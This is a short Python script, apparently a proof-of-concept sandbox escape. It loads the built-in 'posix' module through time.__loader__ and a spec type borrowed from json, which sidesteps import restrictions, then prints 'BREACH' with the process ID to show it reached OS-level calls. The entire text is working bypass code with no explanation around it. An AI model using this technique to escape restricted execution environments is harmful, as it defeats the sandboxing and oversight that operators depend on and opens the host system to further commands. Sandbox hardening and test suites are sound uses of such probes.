import json, time
spec = type(json.__spec__)("posix", time.__loader__)
m = time.__loader__.create_module(spec)
time.__loader__.exec_module(m)
print("BREACH", m.getpid())
